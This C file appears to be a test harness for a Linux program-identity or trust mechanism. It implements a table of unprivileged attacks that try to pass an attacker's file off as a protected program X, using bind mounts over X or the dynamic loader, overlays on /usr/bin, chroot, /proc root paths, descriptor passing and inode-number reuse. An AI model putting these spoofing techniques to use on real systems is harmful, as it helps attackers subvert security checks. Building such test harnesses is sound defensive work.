// SPDX-License-Identifier: GPL-2.0
/*
 * mounts: attacks with mounts and root directories of the attacker's own, as an
 * unprivileged user.
 *
 *	mounts ROW WHAT [FILE]
 *
 * FILE is mounted or run; each row below says how.
 *
 * gcc: -static
 */
#define _GNU_SOURCE
#include "attack.h"

#define LOADER		"/lib64/ld-linux-x86-64.so.2"
#define FD_FAILFS_ROOT	(-10004)
#define NR_FCHROOT	472	/* since 7.3 */

static const char *what, *file;

static const char *here(const char *name)
{
	static char path[256];

	check("getcwd", -!getcwd(path, sizeof(path) - strlen(name)));
	return strcat(path, name);
}

static void copy(const char *to, const char *from)
{
	const int in = check(from, open(from, O_RDONLY | O_CLOEXEC));
	const int out = check(to, creat(to, 0755));
	char buf[4096];
	ssize_t n;

	while ((n = read(in, buf, sizeof(buf))) > 0)
		check("write", write(out, buf, n));
	close(in);
	close(out);
}

static void bind_over(const char *from, const char *to)
{
	check("mount", mount(from, to, NULL, MS_BIND, NULL));
}

static void overlay(void)
{
	char options[512];

	snprintf(options, sizeof(options), "lowerdir=%s/usr/bin:/usr/bin", file);
	check("overlay", mount("overlay", "/usr/bin", "overlay", 0, options));
}

/*
 * Returns a path that leads from our namespaces to the program that a child
 * sees at @program. The child is in namespaces of its own, and has run @prepare
 * there.
 */
static const char *outside(void (*prepare)(void), const char *program)
{
	static char path[256];
	int ready[2];
	pid_t child;
	char byte;

	check("pipe", pipe2(ready, O_CLOEXEC));
	child = check("fork", fork());
	if (!child) {
		enter_user_ns(CLONE_NEWNS);
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		prepare();
		check("write", write(ready[1], "r", 1));
		pause();
		_exit(0);
	}
	close(ready[1]);
	if (read(ready[0], &byte, 1) != 1)
		exit(1);	/* the child has said why */
	snprintf(path, sizeof(path), "/proc/%d/root%s", child, program);
	return path;
}

/* Run that program from our namespaces. */
static void from_outside(void (*prepare)(void), const char *program)
{
	run(outside(prepare, program), what);
}

static void bind_x(void)
{
	bind_over(file, X);
}

/* P1: FILE bound over X. */
static void p1(void)
{
	enter_user_ns(CLONE_NEWNS);
	bind_x();
	run(X, what);
}

/* P2: the same, run from outside the namespace, where nothing was mounted. */
static void p2(void)
{
	from_outside(bind_x, X);
}

/*
 * X bound over FILE, and run from outside. The program is X itself, but in all
 * other namespaces its path leads to another file.
 */
static void bind_x_elsewhere(void)
{
	bind_over(X, file);
}

static void elsewhere(void)
{
	from_outside(bind_x_elsewhere, file);
}

/*
 * P3: FILE is a directory. Its usr/bin/x is run from a detached mount of FILE,
 * in which the path of that program is X's path.
 */
static void p3(void)
{
	int pair[2], tree, fd;

	check("socketpair", socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair));
	if (!check("fork", fork())) {
		enter_user_ns(CLONE_NEWNS);
		tree = check("open_tree", open_tree(AT_FDCWD, file, OPEN_TREE_CLONE));
		fd = check("openat", openat(tree, "usr/bin/x", O_PATH));
		send_fd(pair[1], fd);
		_exit(0);
	}
	close(pair[1]);
	fd = receive_fd(pair[0]);
	wait(NULL);
	run_fd(fd, what);
}

/* P4, by an unprivileged user: chroot(2) into the directory FILE. */
static void p4(void)
{
	enter_user_ns(0);
	check("chroot", chroot(file));
	check("chdir", chdir("/"));
	run(X, what);
}

/* P4b: run FILE by its descriptor, without any root directory. */
static void p4b(void)
{
	int fd = check("open", open(file, O_PATH | O_CLOEXEC));

	check("no_new_privs", prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
	check("fchroot", syscall(NR_FCHROOT, FD_FAILFS_ROOT, 0));
	run_fd(fd, what);
}

/* P9: an overlay of FILE/usr/bin above /usr/bin. FILE is a directory. */
static void p9(void)
{
	enter_user_ns(CLONE_NEWNS);
	overlay();
	run(X, what);
}

static void p9_outside(void)
{
	from_outside(overlay, X);
}

/* P18: X itself, with FILE as its loader. */
static void p18(void)
{
	enter_user_ns(CLONE_NEWNS);
	bind_over(file, LOADER);
	run(X, what);
}

/*
 * P18b: the same, but the administrator has opened X: X is the interpreter of a
 * binfmt_misc entry with flag F. "./foreign" is a file that matches the entry.
 */
static void p18b(void)
{
	enter_user_ns(CLONE_NEWNS);
	bind_over(file, LOADER);
	run("./foreign", what);
}

/* E1: as root of a user namespace. */
static void e1(void)
{
	enter_user_ns(0);
	run(X, what);
}

/*
 * E8: the victim was on an overlay over a tmpfs, and both were unmounted. Make
 * the same mounts again, with FILE as the program: the kernel gives the inodes
 * the same numbers, and gives the free device numbers to the next mounts. A
 * first tmpfs takes the number that the second one must not get; unmounting it
 * frees that number for the overlay.
 */
static void reuse_numbers(void)
{
	check("mkdir", mkdir("first", 0755) | mkdir("layers", 0755) | mkdir("merged", 0755));
	check("tmpfs", mount("tmpfs", "first", "tmpfs", 0, NULL));
	check("tmpfs", mount("tmpfs", "layers", "tmpfs", 0, NULL));
	check("umount", umount("first"));
	check("mkdir", mkdir("layers/a", 0755) | mkdir("layers/b", 0755));
	copy("layers/a/x", file);
	check("overlay", mount("overlay", "merged", "overlay", 0, "lowerdir=layers/a:layers/b"));
}

static void e8(void)
{
	from_outside(reuse_numbers, here("/merged/x"));
}

/*
 * C4: FILE is becomes-x.c. It is in the upper directory of an overlay. The
 * kernel does not know that the file in the upper directory is running.
 */
static void overlay_here(void)
{
	check("mkdir", mkdir("upper", 0755) | mkdir("work", 0755) | mkdir("merged", 0755));
	copy("upper/x", file);
	check("overlay", mount("overlay", "merged", "overlay", 0,
			       "userxattr,lowerdir=/usr/bin,upperdir=upper,workdir=work"));
}

static void run_overlay(const char *program)
{
	execl(program, program, what, "write", "upper/x", NULL);
	failed("exec");
}

static void c4(void)
{
	run_overlay(outside(overlay_here, here("/merged/x")));
}

static void c4_within(void)
{
	enter_user_ns(CLONE_NEWNS);
	overlay_here();
	run_overlay("merged/x");
}

static const struct {
	const char *row;
	void (*attack)(void);
} rows[] = {
	{ "P1", p1 },
	{ "P2", p2 },
	{ "P3", p3 },
	{ "P4", p4 },
	{ "P4b", p4b },
	{ "P9", p9 },
	{ "P9-outside", p9_outside },
	{ "P18", p18 },
	{ "P18b", p18b },
	{ "C4", c4 },
	{ "C4-within", c4_within },
	{ "E1", e1 },
	{ "E8", e8 },
	{ "elsewhere", elsewhere },
};

int main(int argc, char **argv)
{
	size_t i;

	alarm(20);
	for (i = 0; argc >= 3 && i < sizeof(rows) / sizeof(rows[0]); i++) {
		if (!strcmp(argv[1], rows[i].row)) {
			what = argv[2];
			file = argv[3];
			rows[i].attack();
		}
	}
	fprintf(stderr, "usage: mounts ROW WHAT [FILE]\n");
	return 2;
}
